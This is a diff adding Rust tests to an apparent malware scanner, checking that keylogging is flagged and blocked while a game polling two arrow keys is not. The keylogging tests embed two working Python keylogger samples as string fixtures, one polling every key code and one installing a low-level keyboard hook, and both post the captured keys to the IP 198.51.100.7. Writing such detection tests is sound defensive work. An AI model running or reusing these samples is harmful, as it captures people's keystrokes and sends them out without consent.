@@ -113,3 +113,24 @@ fn snapshots_pruned_by_age_and_a_named_bucket_emptied_are_no_cloud_wipe() {
     let b = run(one);
     assert!(!rules(&b).contains(&"MB963"), "{:?}", b.findings);
 }
+
+/// Every key code polled with GetAsyncKeyState, the function fetched by
+/// name onto an attribute, and what was typed posted (74bcfa0: MEDIUM).
+#[test]
+fn every_key_polled_through_a_fetched_function_and_posted_is_keylogging() {
+    let poll = "import ctypes, time, urllib.request\nclass Keys:\n    def __init__(self, lib=ctypes.windll.user32, fetch=getattr):\n        self.down = fetch(lib, 'GetAsyncKeyState')\n        self.seen = []\n    def once(self):\n        for code in range(8, 256):\n            if self.down(code) & 1:\n                self.seen.append(code)\nk = Keys()\nwhile True:\n    k.once()\n    time.sleep(0.01)\n    if len(k.seen) > 500:\n        urllib.request.urlopen('http://198.51.100.7/k', bytes(k.seen))\n        k.seen = []\n";
+    let a = run(poll);
+    assert!(rules(&a).contains(&"MB212"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let hook = "import ctypes, urllib.request\nu = ctypes.WinDLL('user32')\nlog = []\ndef cb(code, wp, lp):\n    log.append(lp)\n    return u.CallNextHookEx(None, code, wp, lp)\nPROC = ctypes.WINFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)(cb)\ngetattr(u, 'SetWindowsHookExW')(13, PROC, None, 0)\nurllib.request.urlopen('http://198.51.100.7/k', repr(log).encode())\n";
+    assert!(rules(&run(hook)).contains(&"MB212"));
+}
+
+/// A game asking for the arrow keys it uses, by name, logs no keys.
+#[test]
+fn a_few_named_keys_polled_are_no_keylogging() {
+    let game = "import ctypes, urllib.request\nstate = getattr(ctypes.windll.user32, 'GetAsyncKeyState')\nVK_LEFT, VK_RIGHT = 0x25, 0x27\nx = 0\nfor _ in range(1000):\n    if state(VK_LEFT) & 0x8000:\n        x -= 1\n    if state(VK_RIGHT) & 0x8000:\n        x += 1\nurllib.request.urlopen('https://scores.example.com/s', str(x).encode())\n";
+    let a = run(game);
+    assert!(!rules(&a).contains(&"MB212"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
